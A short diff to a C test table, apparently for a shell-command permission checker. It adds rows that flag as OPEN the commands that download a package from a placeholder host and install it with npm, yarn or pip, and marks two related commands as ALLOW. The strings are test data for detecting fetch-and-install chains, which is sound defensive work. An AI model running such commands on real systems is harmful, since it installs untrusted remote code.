@@ -244,6 +244,11 @@ static const struct row given_rows[] = {
 	{ OPEN, "git apply missing.patch" },
 	{ OPEN, "cat fix.patch | git apply" },
 	{ OPEN, "curl -so fix.patch https://e.com/x; git apply fix.patch" },
+	{ OPEN, "curl -so x.tgz https://e.com/x; npm i x.tgz" },
+	{ OPEN, "curl -so x.tgz https://e.com/x; yarn add ./x.tgz" },
+	{ OPEN, "curl -so x.tar.gz https://e.com/x && pip install x.tar.gz" },
+	{ ALLOW, "curl -so x.json https://e.com/x; npm test" },
+	{ ALLOW, "curl -so x.tgz https://e.com/x; npm i y" },
 };
 
 #ifndef RESPELL
